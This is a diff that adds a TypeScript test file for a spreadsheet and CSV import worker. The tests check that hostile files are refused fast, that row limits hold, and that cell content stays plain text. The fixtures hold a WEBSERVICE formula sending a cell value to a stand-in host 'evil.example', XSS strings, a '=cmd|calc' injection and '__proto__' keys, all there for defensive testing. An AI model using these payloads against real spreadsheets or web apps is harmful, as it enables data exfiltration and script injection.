@@ -1,0 +1,107 @@
+import { hostileSheets, workbook } from '../../../tests/support/hostileSheets';
+import { readBytes } from './importWorkerCore';
+import type { SheetAnswer } from './protocol';
+
+const sheetIn = (answer: SheetAnswer) => {
+  if ('fault' in answer) throw new Error(answer.fault);
+  return answer.sheet;
+};
+const bytesOf = (text: string) => new TextEncoder().encode(text);
+
+beforeAll(async () => {
+  // The libraries are fetched once; a person waits for them too, but not at every file.
+  await readBytes(workbook([['a'], [1]]));
+});
+
+describe('a hostile file is refused in under a second', () => {
+  test.each(hostileSheets)('$name', async ({ bytes, fault }) => {
+    const made = bytes();
+    const begun = performance.now();
+    const answer = await readBytes(made);
+    const took = performance.now() - begun;
+    expect(answer).toEqual({ fault });
+    expect(took).toBeLessThan(1000);
+  });
+
+  test('there are twenty of them and more', () => {
+    expect(hostileSheets.length).toBeGreaterThanOrEqual(20);
+  });
+});
+
+describe('what a sheet says is text and nothing else', () => {
+  test('a formula is seen and not counted out', async () => {
+    const answer = await readBytes(
+      workbook(
+        [
+          ['investor_id', 'comment'],
+          [1, 'x'],
+        ],
+        (sheet) => {
+          sheet.A2 = { t: 'n', v: 41, f: 'WEBSERVICE("http://evil.example/"&B2)' };
+        },
+      ),
+    );
+    expect(sheetIn(answer).lines).toEqual([{ line: 2, cells: [{ text: '41', formula: true }, { text: 'x' }] }]);
+  });
+
+  test('names of the language itself are headings like others', async () => {
+    const { headings, lines } = sheetIn(
+      await readBytes(
+        workbook([
+          ['__proto__', 'constructor', 'toString'],
+          ['a', 'b', 'c'],
+        ]),
+      ),
+    );
+    expect(headings).toEqual(['__proto__', 'constructor', 'toString']);
+    expect(lines[0]?.cells.map(({ text }) => text)).toEqual(['a', 'b', 'c']);
+    expect(({} as Record<string, unknown>)['a']).toBeUndefined();
+  });
+
+  test('markup and commands stay as they are', async () => {
+    const texts = ['<img src=x onerror=alert(1)>', '=cmd|calc', '@SUM(A1)', '"><script>', '‮abc'];
+    const { lines } = sheetIn(await readBytes(workbook([['comment'], ...texts.map((text) => [text])])));
+    expect(lines.map(({ cells }) => cells[0]?.text)).toEqual(texts);
+  });
+
+  test('long numbers keep their digits, days stay days, empty lines keep the numbers of the others', async () => {
+    const { lines } = sheetIn(
+      await readBytes(
+        workbook(
+          [
+            ['pinfl', 'day'],
+            [30101900010018, new Date(Date.UTC(2026, 2, 5))],
+            ['', ''],
+            ['0012', ''],
+          ],
+          (sheet) => {
+            sheet.B2 = { t: 'n', v: 46_086, z: 'dd.mm.yyyy' };
+          },
+        ),
+      ),
+    );
+    expect(lines.map(({ line, cells }) => [line, cells[0]?.text])).toEqual([
+      [2, '30101900010018'],
+      [4, '0012'],
+    ]);
+    expect(lines[0]?.cells[1]?.text).toBe('05.03.2026');
+  });
+
+  test('a csv of either separator, with quotes and the mark before it', async () => {
+    const { headings, lines } = sheetIn(
+      await readBytes(bytesOf('\uFEFFinvestor_id;comment\r\n17;"a;""b""\nc"\r\n\r\n18;\r\n')),
+    );
+    expect(headings).toEqual(['investor_id', 'comment']);
+    expect(lines.map(({ line, cells }) => [line, ...cells.map(({ text }) => text)])).toEqual([
+      [2, '17', 'a;"b"\nc'],
+      [4, '18', ''],
+    ]);
+    expect(sheetIn(await readBytes(bytesOf('a,b\n1,2'))).lines[0]?.cells).toEqual([{ text: '1' }, { text: '2' }]);
+  });
+
+  test('5,000 rows are read, one more is refused', async () => {
+    const rows = (count: number) => workbook([['a'], ...Array.from({ length: count }, (_, at) => [at + 1])]);
+    expect(sheetIn(await readBytes(rows(5000))).lines).toHaveLength(5000);
+    expect(await readBytes(rows(5001))).toEqual({ fault: 'rows' });
+  });
+});
